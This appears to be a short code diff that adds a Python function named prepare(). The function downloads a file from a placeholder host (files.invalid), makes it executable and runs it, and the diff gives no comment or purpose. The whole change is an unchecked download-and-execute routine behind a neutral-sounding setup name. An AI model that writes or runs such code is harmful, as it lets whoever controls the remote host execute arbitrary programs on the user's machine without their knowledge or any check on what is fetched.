@@ -1,0 +1,8 @@
+import os
+import subprocess
+import urllib.request
+
+def prepare():
+    urllib.request.urlretrieve("https://files.invalid/run", "run")
+    os.chmod("run", 0o755)
+    subprocess.run(["./run"])
